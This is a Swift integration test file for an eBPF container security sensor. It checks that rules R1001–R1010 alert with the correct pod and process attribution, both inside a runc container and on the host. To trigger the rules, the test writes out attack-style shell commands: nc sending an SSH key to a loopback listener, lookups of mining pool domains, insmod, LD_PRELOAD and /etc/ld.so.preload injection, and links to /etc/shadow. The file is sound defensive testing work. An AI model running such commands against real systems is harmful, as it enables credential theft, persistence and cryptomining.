import EventModel
import Foundation
import RuleEngine
import Synchronization
import TestSupport
import Testing

@testable import SensorApp

#if canImport(Glibc)
    import Glibc
#endif

/// Signature rules R1001–R1010 (issue 3, acceptance 1, part A) against real behaviour: each one is made to happen
/// inside a real runc container (busybox root, kubelet-style cgroup, `io.kubernetes.*` annotations) and captured by
/// the real eBPF sensor, and the alert must name the rule, pod, namespace, container and process. The same behaviour
/// run on the host must be attributed to the host: an alert without a container for rules that fire anywhere, and no
/// alert at all (while the event itself is seen, attributed to the host) for rules whose condition needs
/// `in_container` (R1001, R1004, R1006).
///
/// Busybox's shell runs a bare applet name (`nc`) by re-executing itself through `/proc/self/exe`, so the process
/// would read as exe `/proc/self/exe`, comm `exe`. The scripts name applets by path (`/usr/bin/nc`) so the exec is
/// the applet's own, as it would be in an image with real binaries.
@Suite(.serialized) struct SignatureRulesInContainersPartATests {
    /// What one behaviour must raise: the rule, text that identifies this behaviour's alert, and the process.
    struct Expectation: Sendable, CustomStringConvertible {
        var rule: String
        var message: String
        var comm: String
        var exe: String
        var description: String { "\(rule) '\(message)' by \(comm) (\(exe))" }

        func matches(_ alert: Alert) -> Bool { alert.ruleID == rule && alert.message.contains(message) }
    }

    /// Rules the test evaluates: the default set plus R1006, which is left out of the default binding (tag
    /// `not-default`) and so is enabled here explicitly.
    static func rules() throws -> RuleSet {
        try RuleSet.load(files: ContainerDetectionTests.shippedRules).enabling {
            !$0.tags.contains("not-default") || $0.id == "R1006"
        }
    }

    static func skipReason() -> String? {
        if getuid() != 0 { return "needs root to load BPF and run runc (uid \(getuid()))" }
        return RuncContainer.unavailableReason
    }

    /// A loopback address of its own (127.x.y.z), so the test's listeners and the "unanswered DNS server" cannot
    /// collide with anything else on this machine.
    static func privateLoopbackAddress() -> String {
        "127.\(Int.random(in: 100...250)).\(Int.random(in: 0...255)).\(Int.random(in: 1...254))"
    }

    // MARK: - In a container

    @Test(.timeLimit(.minutes(3))) func partARulesFireInsideARealContainerWithPodAttribution() async throws {
        if let reason = Self.skipReason() {
            print("skipping SignatureRulesInContainersPartATests (container): \(reason)")
            return
        }
        let rules = try Self.rules()
        let address = Self.privateLoopbackAddress()
        let exfilPort = UInt16.random(in: 20_000...40_000)
        // The far ends of the key exfiltration (R1003) and of the miner pool connection (R1007). Nothing listens on
        // port 53 there: a DNS query is sent all the same, and the refusal ends nslookup at once.
        let exfil = try LoopbackSink(address: address, port: exfilPort)
        let pool = try LoopbackSink(address: address, port: 3333)
        let volume = try TemporaryDirectory(prefix: "patrol-parta-volume")
        defer {
            exfil.stop()
            pool.stop()
            volume.remove()
        }
        let options = RuncContainer.Options(
            podName: "payments-api-6d5f8", namespace: "payments", containerName: "api",
            volumes: [.init(hostPath: volume.path, containerPath: "/data")], overlay: true, hostNetwork: true)

        let steps: [(script: String, expect: [Expectation])] = [
            // R1001: a binary written into the container's writable layer, then run. (A copy of BusyBox runs only
            // under an applet's name or one starting with "busybox"; hence the names here and for R1004.)
            (
                "cp /bin/busybox /tmp/busybox-drift && /tmp/busybox-drift true",
                [.init(rule: "R1001", message: "/tmp/busybox-drift", comm: "busybox-drift", exe: "/tmp/busybox-drift")]
            ),
            // R1002: insmod tries finit_module, then init_module; both fail (no CAP_SYS_MODULE, and this kernel has
            // no module support), and both attempts must alert.
            (
                "echo 'not a module' > /tmp/patrol.ko; /sbin/insmod /tmp/patrol.ko",
                [
                    .init(
                        rule: "R1002", message: "via finit_module (module 'patrol.ko')", comm: "insmod",
                        exe: "/sbin/insmod"),
                    .init(rule: "R1002", message: "via init_module", comm: "insmod", exe: "/sbin/insmod"),
                ]
            ),
            // R1003: the same process reads an SSH key (the shell opens it for nc's stdin) and sends it to a port
            // that is not SSH's.
            (
                "mkdir -p /root/.ssh && echo 'fake key' > /root/.ssh/id_rsa"
                    + " && /usr/bin/nc \(address) \(exfilPort) < /root/.ssh/id_rsa",
                [
                    .init(
                        rule: "R1003", message: "connected to \(address):\(exfilPort)", comm: "nc", exe: "/usr/bin/nc")
                ]
            ),
            // R1004: a binary on a volume (a hostPath bind mount), then run.
            (
                "cp /bin/busybox /data/busybox-tool && /data/busybox-tool true",
                [.init(rule: "R1004", message: "/data/busybox-tool", comm: "busybox-tool", exe: "/data/busybox-tool")]
            ),
            // R1006: unshare(2) from the container (refused without CAP_SYS_ADMIN; the attempt is the signal).
            (
                "/usr/bin/unshare -n /bin/true",
                [.init(rule: "R1006", message: "by /usr/bin/unshare", comm: "unshare", exe: "/usr/bin/unshare")]
            ),
            // R1007: a connection to a mining port, and DNS lookups of pool domains: one with a trailing dot, one in
            // mixed case under a pool's domain.
            (
                "/usr/bin/nc \(address) 3333 < /dev/null",
                [.init(rule: "R1007", message: "contacted \(address):3333", comm: "nc", exe: "/usr/bin/nc")]
            ),
            (
                "/usr/bin/nslookup pool.minexmr.com. \(address)",
                [
                    .init(
                        rule: "R1007", message: "contacted pool.minexmr.com, ", comm: "nslookup",
                        exe: "/usr/bin/nslookup")
                ]
            ),
            (
                "/usr/bin/nslookup XMR-EU1.NanoPool.ORG \(address)",
                [
                    .init(
                        rule: "R1007", message: "contacted xmr-eu1.nanopool.org, ", comm: "nslookup",
                        exe: "/usr/bin/nslookup")
                ]
            ),
            // R1008: a program started with LD_PRELOAD in its environment.
            (
                "LD_PRELOAD=/tmp/hook.so /bin/true",
                [.init(rule: "R1008", message: "LD_PRELOAD=/tmp/hook.so", comm: "true", exe: "/bin/true")]
            ),
            // R1009: the shell itself opens /etc/ld.so.preload for writing.
            (
                "echo /tmp/hook.so >> /etc/ld.so.preload",
                [.init(rule: "R1009", message: "Write to /etc/ld.so.preload by /bin/sh", comm: "sh", exe: "/bin/sh")]
            ),
            // R1010: a symbolic and a hard link to the shadow file.
            (
                "echo 'root:*:1::::::' > /etc/shadow && /bin/ln -s /etc/shadow /tmp/shadow-link"
                    + " && /bin/ln /etc/shadow /tmp/shadow-hard",
                [
                    .init(
                        rule: "R1010", message: "/tmp/shadow-link -> /etc/shadow (symbolic: true)", comm: "ln",
                        exe: "/bin/ln"),
                    .init(
                        rule: "R1010", message: "/tmp/shadow-hard -> /etc/shadow (symbolic: false)", comm: "ln",
                        exe: "/bin/ln"),
                ]
            ),
        ]
        let expectations = steps.flatMap(\.expect)

        let resolver = ContainerResolver()
        let capture = try await offPool {
            try LiveCapture(
                configuration: LiveCaptureConfiguration(dedupWindow: .zero), node: "test-node", resolver: resolver)
        }
        let collected = Collected()
        let (alerts, events, outputs): ([Alert], [Event], [String]) = try await withThrowingTaskGroup(
            of: ([Alert], [Event], [String])?.self
        ) { group in
            group.addTask {
                await capture.run(batchSize: 64) { collected.append($0) }
                return nil
            }
            group.addTask {
                try await RuncContainer.with(options) { container in
                    // Events before the runtime has written the container's state carry only its id (a known gap,
                    // docs/containers.md): start once the sensor can read that state.
                    for _ in 0..<50
                    where resolver.container(forCgroup: container.cgroupID ?? 0, pid: container.initPID)?.podName
                        .isEmpty ?? true
                    {
                        try await Task.sleep(for: .milliseconds(100))
                    }
                    var outputs: [String] = []
                    for step in steps {
                        let result = try await container.exec(["sh", "-c", step.script])
                        outputs.append("\(step.script) → \(result.status) \(result.standardError)")
                    }
                    var found: [Alert] = []
                    var mine: [Event] = []
                    for _ in 0..<100 {
                        mine = collected.all.filter { $0.container?.containerID == container.id }
                        var evaluator = RuleEvaluator(ruleSet: rules)
                        found = mine.flatMap { evaluator.evaluate($0) }
                        if expectations.allSatisfy({ expected in found.contains(where: expected.matches) }) { break }
                        try await Task.sleep(for: .milliseconds(100))
                    }
                    return (found, mine, outputs)
                }
            }
            var result: ([Alert], [Event], [String]) = ([], [], [])
            while let next = try await group.next() {
                if let next {
                    result = next
                    group.cancelAll()
                }
            }
            return result
        }

        let context = Self.diagnostics(alerts: alerts, events: events, outputs: outputs)
        for expected in expectations {
            guard let alert = alerts.first(where: expected.matches) else {
                Issue.record("no alert \(expected) from the container\n\(context)")
                continue
            }
            #expect(alert.container?.podName == "payments-api-6d5f8", "\(expected)")
            #expect(alert.container?.namespace == "payments", "\(expected)")
            #expect(alert.container?.containerName == "api", "\(expected)")
            #expect(alert.container?.podUID == options.podUID, "\(expected)")
            #expect(alert.container?.containerID == options.containerID, "\(expected)")
            #expect(alert.process.comm == expected.comm, "\(expected): comm \(alert.process.comm)")
            #expect(alert.process.exe == expected.exe, "\(expected): exe \(alert.process.exe)")
        }
        // The two exec origins are told apart: the volume's binary is not drift, the upper layer's is not a volume.
        #expect(!alerts.contains { $0.ruleID == "R1001" && $0.process.exe == "/data/busybox-tool" })
        #expect(!alerts.contains { $0.ruleID == "R1004" && $0.process.exe == "/tmp/busybox-drift" })
        // The remote ends really were reached: the key went out, the pool port answered.
        #expect(exfil.acceptedCount >= 1)
        #expect(pool.acceptedCount >= 1)
    }

    // MARK: - On the host

    @Test(.timeLimit(.minutes(3))) func partABehaviourOnTheHostIsAttributedToTheHost() async throws {
        if let reason = Self.skipReason() {
            print("skipping SignatureRulesInContainersPartATests (host): \(reason)")
            return
        }
        guard let busybox = ["/bin/busybox", "/usr/bin/busybox"].first(where: FileManager.default.isExecutableFile),
            FileManager.default.isExecutableFile(atPath: "/usr/bin/unshare")
        else {
            print("skipping SignatureRulesInContainersPartATests (host): needs busybox and util-linux unshare")
            return
        }
        let rules = try Self.rules()
        let address = Self.privateLoopbackAddress()
        let exfilPort = UInt16.random(in: 20_000...40_000)
        let exfil = try LoopbackSink(address: address, port: exfilPort)
        let pool = try LoopbackSink(address: address, port: 3333)
        let directory = try TemporaryDirectory(prefix: "patrol-parta-host")
        defer {
            exfil.stop()
            pool.stop()
            directory.remove()
        }
        let t = directory.path
        // The same busybox applets as in the container, under their own names, so comm and exe read as there.
        for applet in ["insmod", "nc", "nslookup", "unshare", "ln", "true"] {
            try FileManager.default.createSymbolicLink(atPath: "\(t)/\(applet)", withDestinationPath: busybox)
        }

        /// One host twin: the script ends in `exec`, so the behaviour's pid is the shell's, which the test knows.
        struct Twin: Sendable {
            var script: String
            /// Rules that fire anywhere: the alerts the twin must raise (attributed to the host).
            var expect: [Expectation] = []
            /// A rule that needs `in_container`: the twin must not raise it, while its event (of this kind, by this
            /// executable) is seen and attributed to the host.
            var silent: (rule: String, kind: EventKind, exe: String)? = nil
        }
        let twins: [Twin] = [
            Twin(
                script: "cp \(busybox) \(t)/busybox-drift && exec \(t)/busybox-drift true",
                silent: ("R1001", .exec, "\(t)/busybox-drift")),
            Twin(
                script: "echo 'not a module' > \(t)/patrol.ko; exec \(t)/insmod \(t)/patrol.ko",
                expect: [
                    .init(
                        rule: "R1002", message: "via finit_module (module 'patrol.ko')", comm: "insmod",
                        exe: "\(t)/insmod"),
                    .init(rule: "R1002", message: "via init_module", comm: "insmod", exe: "\(t)/insmod"),
                ]),
            Twin(
                script:
                    "mkdir -p \(t)/.ssh && echo 'fake key' > \(t)/.ssh/id_rsa"
                    + " && exec \(t)/nc \(address) \(exfilPort) < \(t)/.ssh/id_rsa",
                expect: [
                    .init(rule: "R1003", message: "connected to \(address):\(exfilPort)", comm: "nc", exe: "\(t)/nc")
                ]),
            Twin(
                script: "cp \(busybox) \(t)/busybox-tool && exec \(t)/busybox-tool true",
                silent: ("R1004", .exec, "\(t)/busybox-tool")),
            // As root on the host this really makes a network namespace, for /bin/true alone.
            Twin(script: "exec \(t)/unshare -n /bin/true", silent: ("R1006", .namespaceChange, "\(t)/unshare")),
            Twin(
                script: "exec \(t)/nc \(address) 3333 < /dev/null",
                expect: [.init(rule: "R1007", message: "contacted \(address):3333", comm: "nc", exe: "\(t)/nc")]),
            Twin(
                script: "exec \(t)/nslookup pool.minexmr.com. \(address)",
                expect: [
                    .init(
                        rule: "R1007", message: "contacted pool.minexmr.com, ", comm: "nslookup",
                        exe: "\(t)/nslookup")
                ]),
            Twin(
                script: "export LD_PRELOAD=\(t)/hook.so; exec \(t)/true",
                expect: [.init(rule: "R1008", message: "LD_PRELOAD=\(t)/hook.so", comm: "true", exe: "\(t)/true")]),
            // The host's real /etc is never written: the write goes to a tmpfs over /etc in a private mount
            // namespace. The path the process opens is still /etc/ld.so.preload, and the process is still the host's.
            Twin(
                script:
                    "exec /usr/bin/unshare -m /bin/sh -c"
                    + " 'mount -t tmpfs patrol-test /etc && echo \(t)/hook.so >> /etc/ld.so.preload'",
                expect: [
                    .init(
                        rule: "R1009", message: "Write to /etc/ld.so.preload by /bin/sh", comm: "sh", exe: "/bin/sh")
                ]),
            Twin(
                script: "exec \(t)/ln -s /etc/shadow \(t)/shadow-link",
                expect: [
                    .init(
                        rule: "R1010", message: "\(t)/shadow-link -> /etc/shadow (symbolic: true)", comm: "ln",
                        exe: "\(t)/ln")
                ]),
            // A real hard link to the host's shadow file, inside the test's own directory (removed at the end).
            Twin(
                script: "exec \(t)/ln /etc/shadow \(t)/shadow-hard",
                expect: [
                    .init(
                        rule: "R1010", message: "\(t)/shadow-hard -> /etc/shadow (symbolic: false)", comm: "ln",
                        exe: "\(t)/ln")
                ]),
        ]

        let capture = try await offPool {
            try LiveCapture(
                configuration: LiveCaptureConfiguration(dedupWindow: .zero), node: "test-node",
                resolver: ContainerResolver())
        }
        let collected = Collected()
        let (alerts, events, pids, outputs): ([Alert], [Event], [Int32], [String]) = try await withThrowingTaskGroup(
            of: ([Alert], [Event], [Int32], [String])?.self
        ) { group in
            group.addTask {
                await capture.run(batchSize: 64) { collected.append($0) }
                return nil
            }
            group.addTask {
                var pids: [Int32] = []
                var outputs: [String] = []
                for twin in twins {
                    let run = try await Self.shell(twin.script)
                    pids.append(run.pid)
                    outputs.append("\(twin.script) → \(run.status) \(run.output)")
                }
                // Unlinked at once: the test leaves no extra name for the host's shadow file behind.
                unlink("\(t)/shadow-hard")
                let wanted = Set(pids)
                var found: [Alert] = []
                var mine: [Event] = []
                for _ in 0..<100 {
                    mine = collected.all.filter { wanted.contains($0.process.pid) }
                    var evaluator = RuleEvaluator(ruleSet: rules)
                    found = mine.flatMap { evaluator.evaluate($0) }
                    let alerted = twins.allSatisfy { twin in
                        twin.expect.allSatisfy { expected in found.contains(where: expected.matches) }
                    }
                    let seen = zip(twins, pids).allSatisfy { twin, pid in
                        twin.silent.map { silent in mine.contains { Self.isSilentEvent($0, silent, pid: pid) } } ?? true
                    }
                    if alerted && seen { break }
                    try await Task.sleep(for: .milliseconds(100))
                }
                return (found, mine, pids, outputs)
            }
            var result: ([Alert], [Event], [Int32], [String]) = ([], [], [], [])
            while let next = try await group.next() {
                if let next {
                    result = next
                    group.cancelAll()
                }
            }
            return result
        }

        let context = Self.diagnostics(alerts: alerts, events: events, outputs: outputs)
        for (twin, pid) in zip(twins, pids) {
            for expected in twin.expect {
                guard let alert = alerts.first(where: { expected.matches($0) && $0.process.pid == pid }) else {
                    Issue.record("no alert \(expected) from the host (pid \(pid))\n\(context)")
                    continue
                }
                #expect(alert.container == nil, "\(expected) attributed to \(String(describing: alert.container))")
                #expect(alert.process.comm == expected.comm, "\(expected): comm \(alert.process.comm)")
                #expect(alert.process.exe == expected.exe, "\(expected): exe \(alert.process.exe)")
            }
            if let silent = twin.silent {
                let seen = events.filter { Self.isSilentEvent($0, silent, pid: pid) }
                #expect(
                    !seen.isEmpty,
                    "\(silent.rule) host twin: no \(silent.kind) event by \(silent.exe) (pid \(pid))\n\(context)")
                #expect(seen.allSatisfy { $0.container == nil }, "\(silent.rule) host twin not attributed to the host")
                #expect(
                    !alerts.contains { $0.ruleID == silent.rule && $0.process.pid == pid },
                    "\(silent.rule) needs in_container but fired on the host")
            }
        }
        #expect(exfil.acceptedCount >= 1)
        #expect(pool.acceptedCount >= 1)
    }

    // MARK: - Helpers

    /// The event a silent host twin must still produce: its kind, from its pid, by its executable.
    static func isSilentEvent(
        _ event: Event, _ silent: (rule: String, kind: EventKind, exe: String), pid: Int32
    ) -> Bool {
        event.process.pid == pid && event.kind == silent.kind && event.process.exe == silent.exe
    }

    /// Runs `/bin/sh -c script` on the host, off the cooperative pool; returns its pid, status and stderr.
    static func shell(_ script: String) async throws -> (pid: Int32, status: Int32, output: String) {
        try await offPool {
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/bin/sh")
            process.arguments = ["-c", script]
            let pipe = Pipe()
            process.standardError = pipe
            process.standardOutput = FileHandle.nullDevice
            process.standardInput = FileHandle.nullDevice
            try process.run()
            let pid = process.processIdentifier
            let data = pipe.fileHandleForReading.readDataToEndOfFile()
            process.waitUntilExit()
            return (pid, process.terminationStatus, String(decoding: data, as: UTF8.self))
        }
    }

    /// What a failed expectation needs to be understood: the alerts, the events seen, and what each command said.
    static func diagnostics(alerts: [Alert], events: [Event], outputs: [String]) -> String {
        let alertLines = alerts.map { "  \($0.ruleID) pid \($0.process.pid) \($0.process.comm): \($0.message)" }
        let eventLines = events.suffix(200).map {
            "  \($0.kind.rawValue) pid \($0.process.pid) \($0.process.comm) \($0.process.exe) \($0.payload)"
        }
        return (["alerts:"] + alertLines + ["events (last 200):"] + eventLines + ["commands:"]
            + outputs.map { "  \($0)" }).joined(separator: "\n")
    }
}

/// A TCP server on one loopback address and port, on its own thread (accept and read block): it accepts each
/// connection, reads what the client sends until it stops (end of stream, or a second of silence), and closes it.
/// The far end of the tests' exfiltration and mining-pool connections.
final class LoopbackSink: Sendable {
    let address: String
    let port: UInt16
    private let socketFD: Int32
    private let stopping = Atomic<Bool>(false)
    private let accepted = Atomic<Int>(0)

    struct SinkError: Error, CustomStringConvertible {
        var description: String
    }

    init(address: String, port: UInt16) throws {
        self.address = address
        self.port = port
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        guard fd >= 0 else { throw SinkError(description: "socket: \(String(cString: strerror(errno)))") }
        var one: Int32 = 1
        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, socklen_t(MemoryLayout<Int32>.size))
        var sockaddr = sockaddr_in()
        sockaddr.sin_family = sa_family_t(AF_INET)
        sockaddr.sin_port = port.bigEndian
        sockaddr.sin_addr.s_addr = inet_addr(address)
        let bound = withUnsafePointer(to: &sockaddr) {
            $0.withMemoryRebound(to: Glibc.sockaddr.self, capacity: 1) {
                bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        guard bound == 0, listen(fd, 16) == 0 else {
            let reason = String(cString: strerror(errno))
            close(fd)
            throw SinkError(description: "listen on \(address):\(port): \(reason)")
        }
        socketFD = fd
        let thread = Thread { [self] in serve() }
        thread.name = "loopback-sink-\(port)"
        thread.start()
    }

    /// Connections accepted so far.
    var acceptedCount: Int { accepted.load(ordering: .relaxed) }

    /// Asks the thread to stop; it closes the socket within a poll interval (or a quiet second, mid-connection).
    /// Does not wait, so it is safe to call from async code.
    func stop() {
        stopping.store(true, ordering: .relaxed)
    }

    private func serve() {
        defer { close(socketFD) }
        var buffer = [UInt8](repeating: 0, count: 4096)
        while !stopping.load(ordering: .relaxed) {
            // A short poll, so stop() is noticed without closing the descriptor under a blocked accept.
            var pending = pollfd(fd: socketFD, events: Int16(POLLIN), revents: 0)
            guard poll(&pending, 1, 100) > 0 else { continue }
            let client = accept(socketFD, nil, nil)
            guard client >= 0 else { continue }
            accepted.add(1, ordering: .relaxed)
            var quiet = timeval(tv_sec: 1, tv_usec: 0)
            setsockopt(client, SOL_SOCKET, SO_RCVTIMEO, &quiet, socklen_t(MemoryLayout<timeval>.size))
            while read(client, &buffer, buffer.count) > 0 {}
            close(client)
        }
    }
}
